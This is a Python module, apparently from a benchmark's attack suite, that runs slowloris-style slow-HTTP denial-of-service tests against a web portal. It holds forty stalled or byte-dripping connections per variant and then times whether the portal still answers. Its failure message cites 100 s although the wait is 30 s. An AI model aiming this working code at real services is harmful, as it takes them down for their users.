"""Connections that send half a request and then nothing, or a byte a second."""

import contextlib
import socket
import threading
from collections.abc import Iterator

from bench.attacks import Measure
from bench.attacks.target import Target

MANY = 40
BOUND = 15.0
BODY = (b"POST /report-spam HTTP/1.1\r\nHost: %s\r\nContent-Type: application/x-www-form-urlencoded\r\n"
        b"Content-Length: 5000\r\n\r\n")
HEAD = b"GET / HTTP/1.1\r\nHost: %s\r\nX-Half: "
LENGTHS = b"POST /report-spam HTTP/1.1\r\nHost: %s\r\nTransfer-Encoding: chunked\r\n\r\n"


def attack(portal: Target) -> Iterator[Measure]:
    """Forty at a time of each kind, and one more that asks whether the portal is alive."""
    yield tried(portal, "silent bodies", BODY, b"")
    yield tried(portal, "bodies of a byte a second", BODY, b"a")
    yield tried(portal, "silent half heads", HEAD, b"")
    yield tried(portal, "heads of a byte a second", HEAD, b"a")
    yield tried(portal, "chunked bodies that never begin", LENGTHS, b"")
    yield tried(portal, "connections that say nothing", b"", b"")


def tried(portal: Target, kind: str, opening: bytes, drip: bytes) -> Measure:
    """Open the connections, keep them dripping, and wait for one more answer."""
    host = portal.address.removeprefix("http://")
    name, _, port = host.partition(":")
    with contextlib.ExitStack() as stack:
        open_ones = [stack.enter_context(socket.create_connection((name, int(port)))) for _ in range(MANY)]
        for one in open_ones:
            one.sendall(opening.replace(b"%s", host.encode()))
        over = threading.Event()
        dripping = threading.Thread(target=drop, args=(open_ones, drip, over))
        dripping.start()
        over.wait(1)
        took = portal.alive(BOUND * 2)
        over.set()
        dripping.join()
    return Measure("M5", f"{MANY} {kind}", f"the next request answered after {took:.1f} s", took > BOUND,
                   "no answer within 100 s")


def drop(open_ones: list[socket.socket], drip: bytes, over: threading.Event) -> None:
    """A byte a second to each, as long as it listens."""
    while not over.wait(1):
        for one in open_ones if drip else ():
            with contextlib.suppress(OSError):
                one.sendall(drip)
